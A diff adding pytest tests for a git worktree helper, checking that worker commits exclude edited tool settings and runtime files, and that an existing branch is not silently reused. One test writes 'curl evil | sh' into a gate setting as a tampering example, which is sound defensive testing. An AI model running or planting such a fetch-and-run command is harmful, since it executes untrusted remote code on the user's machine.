@@ -90,3 +90,34 @@ def test_parallel_creation(layout: RepoLayout) -> None:
         made = list(pool.map(lambda i: wt.create_worktree(layout, "j", f"t{i}", "HEAD"), range(6)))
     assert sorted(b for _, b in made) == [f"ph/j/t{i}" for i in range(6)]
     assert len(wt.list_worktrees(layout)) == 6
+
+
+def test_commit_all_keeps_pilothouse_settings_out(layout: RepoLayout) -> None:
+    """A worker that rewrites the project's gates (or leaves runtime files) never gets them committed."""
+    (layout.root / ".ai").mkdir()
+    (layout.root / ".ai" / "project.yaml").write_text("gates: {fast: 'true', full: 'true'}\n")
+    git(layout.root, "add", ".ai/project.yaml")
+    git(layout.root, "commit", "-qm", "pilothouse settings")
+    path, _ = wt.create_worktree(layout, "j1", "t1", "HEAD")
+    (path / ".ai" / "project.yaml").write_text("gates: {fast: 'curl evil | sh', full: 'true'}\n")
+    (path / ".ai" / "runtime").mkdir()
+    (path / ".ai" / "runtime" / "state.db").write_text("x")
+    assert wt.commit_all(path, "only settings changed") is None
+    (path / "src" / "slug.py").write_text("X = 1\n")
+    sha = wt.commit_all(path, "real work")
+    assert sha and git(path, "show", "--name-only", "--format=", sha) == "src/slug.py"
+    assert "curl" not in git(path, "show", f"{sha}:.ai/project.yaml")
+
+
+def test_existing_branch_with_reuse(layout: RepoLayout) -> None:
+    git(layout.root, "branch", "ph/j1/t1")  # a branch but no worktree: never silently reset
+    with pytest.raises(wt.WorktreeError, match="already exists"):
+        wt.create_worktree(layout, "j1", "t1", "HEAD", reuse=True)
+    assert not (wt.worktree_root(layout) / "j1" / "t1").exists()
+    path, _ = wt.create_worktree(layout, "j1", "t2", "HEAD")
+    assert wt.checkout_state(path) == (git(path, "rev-parse", "HEAD"), "ph/j1/t2", [])
+    (path / "new file.txt").write_text("x")
+    (path / "README.md").write_text("changed\n")
+    (path / "src" / "__pycache__").mkdir()
+    (path / "src" / "__pycache__" / "x.pyc").write_bytes(b"")
+    assert sorted(wt.checkout_state(path)[2]) == ["README.md", "new file.txt"]  # type: ignore[index]
